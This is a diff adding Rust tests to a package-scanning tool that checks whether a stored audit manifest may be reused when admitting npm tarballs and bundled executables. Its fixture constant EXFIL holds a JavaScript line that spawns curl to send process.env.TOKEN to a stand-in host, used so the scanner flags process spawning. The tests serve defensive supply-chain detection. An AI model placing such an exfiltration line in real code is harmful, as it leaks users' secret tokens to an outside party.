@@ -536,3 +536,117 @@ fn zstd_frame_under_a_js_name_is_decompressed_and_analysed() {
         e.parse_error
     );
 }
+
+// Admission of an audited build reuses the analysis in its stored manifest (content::reuse).
+
+const EXFIL: &[u8] =
+    b"require('child_process').exec('curl https://exfil.example.net/' + process.env.TOKEN)";
+
+fn audited_tgz() -> Vec<u8> {
+    let exe = executable(&[
+        ("/$bunfs/root/cli.js", CLI_V1),
+        ("/$bunfs/root/exfil.js", EXFIL),
+        ("/$bunfs/root/x.node", ADDON),
+    ]);
+    tgz(&[
+        ("package/package.json", PKG),
+        ("package/bin/app", &exe),
+        ("package/lib/helper.js", EXFIL),
+    ])
+}
+
+fn inspect_reusing(bytes: &[u8], stored: ContentManifest) -> ContentManifest {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("artifact.tgz");
+    std::fs::write(&path, bytes).unwrap();
+    let limits = Limits::default();
+    let reuse = vetted::content::reuse::Reuse::of(stored, &limits.js).unwrap();
+    vetted::content::inspect_file_reusing(
+        &path,
+        &InspectOptions {
+            limits,
+            expect_archive: true,
+        },
+        reuse,
+    )
+    .unwrap()
+}
+
+fn spawns(m: &ContentManifest, path: &str) -> bool {
+    m.entries[path]
+        .behaviours
+        .iter()
+        .any(|b| b.kind == BehaviourKind::ProcessSpawn)
+}
+
+#[test]
+fn admission_reusing_the_audited_analysis_lists_what_a_full_inspection_lists() {
+    let bytes = audited_tgz();
+    let full = inspect(&bytes, true);
+    assert!(full.analysis.is_some(), "every manifest names its analysis");
+    assert!(spawns(&full, "package/bin/app!/$bunfs/root/exfil.js"));
+    assert!(spawns(&full, "package/lib/helper.js"));
+    let again = inspect_reusing(&bytes, full.clone());
+    assert_eq!(again, full);
+}
+
+#[test]
+fn audited_build_takes_its_analysis_from_the_stored_manifest_instead_of_parsing_again() {
+    // The stored manifest is the ledger's (content-addressed, named by the audit): what it
+    // says the reviewed bytes do is what the admission records. Edited here to show that the
+    // module is not parsed again.
+    let bytes = audited_tgz();
+    let mut stored = inspect(&bytes, true);
+    for p in [
+        "package/bin/app!/$bunfs/root/exfil.js",
+        "package/lib/helper.js",
+    ] {
+        stored.entries.get_mut(p).unwrap().behaviours.clear();
+    }
+    let got = inspect_reusing(&bytes, stored);
+    assert!(!spawns(&got, "package/bin/app!/$bunfs/root/exfil.js"));
+    assert!(!spawns(&got, "package/lib/helper.js"));
+}
+
+#[test]
+fn stored_analysis_of_other_bytes_is_not_copied_onto_changed_code() {
+    // A stored manifest whose entries at these paths hold other bytes (another build, or an
+    // entry swapped): the analysis of those bytes says nothing about these; they are parsed.
+    let bytes = audited_tgz();
+    let mut stored = inspect(&bytes, true);
+    for p in [
+        "package/bin/app!/$bunfs/root/exfil.js",
+        "package/lib/helper.js",
+    ] {
+        let e = stored.entries.get_mut(p).unwrap();
+        e.behaviours.clear();
+        e.sha256 = Some(
+            vetted::digest::Digest::from_hex(vetted::digest::Algorithm::Sha256, &"00".repeat(32))
+                .unwrap(),
+        );
+    }
+    let got = inspect_reusing(&bytes, stored);
+    assert!(spawns(&got, "package/bin/app!/$bunfs/root/exfil.js"));
+    assert!(spawns(&got, "package/lib/helper.js"));
+}
+
+#[test]
+fn stored_analysis_made_by_another_analysis_is_not_reused() {
+    // An older vetted (or other limits) may have missed what this one finds.
+    let bytes = audited_tgz();
+    let mut stored = inspect(&bytes, true);
+    let js = Limits::default().js;
+    stored.analysis = Some("vetted 0.0.1 content-source 0000000000000000 js {}".into());
+    let why = vetted::content::reuse::Reuse::of(stored.clone(), &js).unwrap_err();
+    assert!(why.contains("another analysis"), "{why}");
+    stored.analysis = None;
+    let why = vetted::content::reuse::Reuse::of(stored.clone(), &js).unwrap_err();
+    assert!(why.contains("does not record"), "{why}");
+    let mut other = js;
+    other.source_bytes -= 1;
+    let fresh = inspect(&bytes, true);
+    assert!(
+        vetted::content::reuse::Reuse::of(fresh, &other).is_err(),
+        "other limits"
+    );
+}
